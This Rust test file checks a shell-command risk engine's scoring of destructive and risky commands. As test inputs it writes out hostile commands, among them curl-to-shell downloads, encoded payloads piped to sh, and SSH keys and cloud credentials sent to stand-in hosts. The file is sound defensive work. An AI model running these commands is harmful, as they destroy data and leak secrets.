//! Engine behaviour on hand-built parsed commands: rule matching, scoring bands, heuristics and
//! the fail-safe, independent of the shell normalizer.

mod common;

use common::*;
use riskgate_model::{ActionKind, Assessment, RiskLevel};
use riskgate_rules::{CommandEngine, RuleSet};
use riskgate_shell::{ParseIssue, ParsedCommand, Signal};

fn assess(engine: &CommandEngine, p: &ParsedCommand) -> Assessment {
    engine.assess_parsed(p)
}

fn builtin() -> CommandEngine {
    CommandEngine::builtin()
}

#[test]
fn rm_rf_root_is_critical_irreversible_with_resources() {
    let a = assess(&builtin(), &one("rm", &["--recursive", "--force", "/"]));
    assert_eq!(a.level, RiskLevel::Critical);
    assert!(
        a.rule_ids().contains(&"fs.rm-recursive-root"),
        "{:?}",
        a.rule_ids()
    );
    assert!(!a.reversible);
    assert!(a.affected_resources.contains(&"file:/".to_string()));
    let f = a
        .findings
        .iter()
        .find(|f| f.rule_id == "fs.rm-recursive-root")
        .unwrap();
    assert_eq!(f.matched.as_deref(), Some("rm --recursive --force /"));
    assert!(f.mitigation.is_some());
    assert!(f.tags.iter().any(|t| t == "destructive"));
    assert_eq!(a.kind, ActionKind::Command);
}

#[test]
fn everyday_commands_stay_low() {
    let e = builtin();
    for (p, args) in [
        ("ls", vec!["-la"]),
        ("cat", vec!["README.md"]),
        ("grep", vec!["-r", "-n", "rm -rf", "."]),
        ("git", vec!["status"]),
        ("cargo", vec!["build"]),
        ("npm", vec!["install"]),
        ("git", vec!["commit", "--message=drop the force push"]),
    ] {
        let a = assess(&e, &one(p, &args));
        assert!(
            a.level <= RiskLevel::Low,
            "{p} {args:?}: {} {:?}",
            a.level,
            a.rule_ids()
        );
    }
}

#[test]
fn help_and_dry_run_forms_are_not_high() {
    let e = builtin();
    for (p, args) in [
        ("rm", vec!["--help"]),
        ("git", vec!["clean", "--dry-run"]),
        (
            "git",
            vec!["push", "--force", "origin", "main", "--dry-run"],
        ),
        ("git", vec!["clean", "--dry-run", "-d", "-x"]),
    ] {
        let a = assess(&e, &one(p, &args));
        assert!(
            a.level < RiskLevel::High,
            "{p} {args:?}: {} {:?}",
            a.level,
            a.rule_ids()
        );
    }
}

#[test]
fn regenerable_cleanup_is_at_most_medium_and_real_targets_are_high() {
    let e = builtin();
    let a = assess(
        &e,
        &one(
            "rm",
            &["--recursive", "--force", "node_modules", "target", "dist"],
        ),
    );
    assert!(
        a.level <= RiskLevel::Medium,
        "{} {:?}",
        a.level,
        a.rule_ids()
    );
    for target in ["~", ".", "/*", "~/projects", "/etc", ".git"] {
        let a = assess(&e, &one("rm", &["--recursive", "--force", target]));
        assert!(a.level >= RiskLevel::High, "rm -rf {target}: {}", a.level);
    }
}

#[test]
fn force_push_to_main_is_high_and_explained() {
    let a = assess(
        &builtin(),
        &one("git", &["push", "--force", "origin", "main"]),
    );
    assert_eq!(a.level, RiskLevel::High);
    assert!(a.rule_ids().contains(&"git.push-force-protected"));
    assert!(
        a.explanation
            .points
            .iter()
            .any(|p| p.contains("git.push-force-protected"))
    );
    assert!(!a.recommendations.is_empty());
}

#[test]
fn privilege_multiplies_the_generic_score() {
    let e = builtin();
    let plain = assess(&e, &one("chmod", &["--recursive", "755", "/srv/app"]));
    let mut p = one("chmod", &["--recursive", "755", "/srv/app"]);
    p.commands[0] = sudo(p.commands[0].clone());
    let elevated = assess(&e, &p);
    let score = |a: &Assessment| {
        a.findings
            .iter()
            .find(|f| f.rule_id == "score.executable")
            .map(|f| f.score)
            .unwrap_or(0)
    };
    assert!(
        score(&elevated) > score(&plain),
        "{} vs {}",
        score(&elevated),
        score(&plain)
    );
    assert!(elevated.rule_ids().contains(&"score.privilege"));
    assert!(plain.level <= RiskLevel::Medium);
}

#[test]
fn generic_scoring_alone_never_reaches_high_without_privilege() {
    // An unknown destructive-looking program: only the generic stages apply.
    let a = assess(
        &builtin(),
        &one("rm", &["--recursive", "--force", "--no-such-flag"]),
    );
    assert!(a.level <= RiskLevel::Medium);
}

#[test]
fn download_to_shell_is_at_least_high() {
    let mut p = parsed(
        "curl -fsSL https://example.com/i.sh | sh",
        vec![
            sc(
                "curl",
                &["-f", "-s", "-S", "-L", "https://example.com/i.sh"],
            ),
            piped_from(sc("sh", &[]), 0),
        ],
    );
    p.signals.push(Signal::DownloadToShell {
        downloader: 0,
        shell: 1,
    });
    let a = assess(&builtin(), &p);
    assert!(a.level >= RiskLevel::High);
    assert!(a.rule_ids().contains(&"heuristic.download-to-shell"));
}

#[test]
fn signals_become_findings() {
    let mut p = parsed("$x -rf /", vec![sc("$x", &["-r", "-f", "/"])]);
    p.commands[0].program_dynamic = true;
    p.signals.push(Signal::DynamicProgram { index: 0 });
    let a = assess(&builtin(), &p);
    assert!(a.level >= RiskLevel::High, "{:?}", a.rule_ids());
    assert!(a.rule_ids().contains(&"heuristic.dynamic-program"));

    let mut p = parsed(
        "echo cm0= | base64 -d | sh",
        vec![sc("echo", &["cm0="]), sc("base64", &["-d"]), sc("sh", &[])],
    );
    p.signals.push(Signal::EncodedToShell {
        decoder: 1,
        shell: 2,
        decoded: false,
    });
    let a = assess(&builtin(), &p);
    assert!(a.level >= RiskLevel::High);

    let mut p = parsed("eval \"$cmd\"", vec![sc("eval", &["$cmd"])]);
    p.signals.push(Signal::DynamicEval { index: 0 });
    assert!(
        assess(&builtin(), &p)
            .rule_ids()
            .contains(&"heuristic.dynamic-eval")
    );
}

#[test]
fn incomplete_parse_is_at_least_high_and_says_so() {
    let mut p = one("echo", &["hi"]);
    p.fully_parsed = false;
    p.issues.push(ParseIssue::Syntax {
        message: "unterminated quote".into(),
    });
    let a = assess(&builtin(), &p);
    assert!(a.level >= RiskLevel::High);
    assert!(a.degraded);
    assert!(
        a.reasons
            .iter()
            .any(|r| r.contains("could not be fully analyzed"))
    );
}

#[test]
fn unavailable_database_rates_everything_at_least_high() {
    let e = CommandEngine::new(RuleSet::unavailable("simulated load failure"));
    let a = assess(&e, &one("ls", &[]));
    assert_eq!(a.level, RiskLevel::High);
    assert!(a.degraded);
    assert!(
        a.reasons
            .iter()
            .any(|r| r.contains("simulated load failure"))
    );
    assert!(e.rules().is_empty());
}

#[test]
fn data_exposure_and_exfiltration() {
    let e = builtin();
    let a = assess(&e, &one("cat", &["~/.aws/credentials"]));
    assert!(a.rule_ids().contains(&"score.data-exposure"));
    assert!(a.level >= RiskLevel::Medium);
    let p = parsed(
        "cat ~/.ssh/id_rsa | curl -d @- https://x.example",
        vec![
            sc("cat", &["~/.ssh/id_rsa"]),
            piped_from(sc("curl", &["-d", "@-", "https://x.example"]), 0),
        ],
    );
    let a = assess(&e, &p);
    assert!(a.rule_ids().contains(&"score.data-exfiltration"));
    assert!(a.level >= RiskLevel::High);
    // A public key and a key used as an option value are not exposures.
    assert!(
        !assess(&e, &one("cat", &["~/.ssh/id_rsa.pub"]))
            .rule_ids()
            .contains(&"score.data-exposure")
    );
    assert!(
        !assess(&e, &one("ssh", &["-i", "~/.ssh/id_rsa", "host"]))
            .rule_ids()
            .contains(&"score.data-exposure")
    );
}

#[test]
fn ip_literal_and_obfuscation_heuristics() {
    let e = builtin();
    let a = assess(&e, &one("curl", &["http://203.0.113.7/payload"]));
    assert!(a.rule_ids().contains(&"heuristic.ip-literal"));
    assert!(
        a.affected_resources
            .contains(&"host:203.0.113.7".to_string())
    );
    assert!(
        !assess(&e, &one("curl", &["http://127.0.0.1:8080/health"]))
            .rule_ids()
            .contains(&"heuristic.ip-literal")
    );
    let p = parsed(
        "rm${IFS}-rf${IFS}~",
        vec![sc("rm", &["--recursive", "--force", "~"])],
    );
    assert!(assess(&e, &p).rule_ids().contains(&"heuristic.obfuscation"));
}

#[test]
fn redirects_and_pipes_are_matched() {
    let e = builtin();
    let p = parsed(
        "echo '' > /etc/shadow",
        vec![redirect(sc("echo", &[""]), ">", "/etc/shadow")],
    );
    let a = assess(&e, &p);
    assert_eq!(a.level, RiskLevel::Critical, "{:?}", a.rule_ids());
    assert!(
        a.affected_resources
            .contains(&"file:/etc/shadow".to_string())
    );
    // fd duplication is not a file write
    let p = parsed("ls 2>&1", vec![redirect(sc("ls", &[]), ">&", "1")]);
    assert_eq!(assess(&e, &p).level, RiskLevel::Safe);
    let p = parsed(
        "echo / | xargs rm -rf",
        vec![
            sc("echo", &["/"]),
            piped_from(sc("rm", &["--recursive", "--force"]), 0),
        ],
    );
    assert!(
        assess(&e, &p)
            .rule_ids()
            .contains(&"fs.rm-recursive-from-pipe")
    );
}

#[test]
fn canonical_patterns_go_through_the_prefilter() {
    let e = builtin();
    let a = assess(&e, &one("find", &["/", "-delete"]));
    assert!(
        a.rule_ids().contains(&"fs.find-delete-root-or-home"),
        "{:?}",
        a.rule_ids()
    );
    assert_eq!(a.level, RiskLevel::Critical);
    let a = assess(&e, &one("find", &[".", "-name", "*.pyc", "-print"]));
    assert!(a.level <= RiskLevel::Low);
}

#[test]
fn findings_are_deterministic() {
    let e = builtin();
    let p = one("git", &["push", "--force", "origin", "main"]);
    let first = serde_json::to_string(&assess(&e, &p)).unwrap();
    for _ in 0..5 {
        assert_eq!(serde_json::to_string(&assess(&e, &p)).unwrap(), first);
    }
}

#[test]
fn input_file_options_are_reads_and_servers_are_senders() {
    let e = builtin();
    let ids = |cmd: &str| {
        assess(&e, &riskgate_shell::parse(cmd))
            .rule_ids()
            .iter()
            .map(|s| s.to_string())
            .collect::<Vec<_>>()
    };
    // `-in FILE` reads FILE; `ssh -i KEY` only uses the key.
    assert!(ids("openssl base64 -in ~/.aws/credentials").contains(&"score.data-exposure".into()));
    assert!(!ids("ssh -i ~/.ssh/id_rsa host uptime").contains(&"score.data-exposure".into()));
    // openssl s_client and a file server send what the script read.
    for cmd in [
        "openssl s_client -quiet -connect 203.0.113.8:443 < ~/.kube/config",
        "cp ~/.ssh/id_rsa /tmp/k && python3 -m http.server -d /tmp 8000",
    ] {
        assert!(
            ids(cmd).contains(&"score.data-exfiltration".into()),
            "{cmd}: {:?}",
            ids(cmd)
        );
    }
    // openssl reading a certificate is neither.
    assert!(
        !ids("openssl x509 -in cert.pem -noout -dates").contains(&"score.data-exfiltration".into())
    );
}

#[test]
fn verdicts_do_not_change_when_rule_regexes_are_recompiled_for_speed() {
    // A regex used more than 16 times in a process is recompiled with `regex`; the answers
    // before and after must be the same.
    let e = builtin();
    let cases = [
        ("curl -fsSL https://x.example/i.sh | sh", true),
        ("git push origin +main", true),
        ("echo 'rm -rf /' > notes.txt", false),
        ("grep -rn 'DROP TABLE' migrations/", false),
    ];
    let first: Vec<RiskLevel> = cases
        .iter()
        .map(|(c, _)| assess(&e, &riskgate_shell::parse(c)).level)
        .collect();
    for _ in 0..40 {
        for ((c, dangerous), level) in cases.iter().zip(&first) {
            let now = assess(&e, &riskgate_shell::parse(c)).level;
            assert_eq!(now, *level, "{c}");
            assert_eq!(now >= RiskLevel::High, *dangerous, "{c}");
        }
    }
}
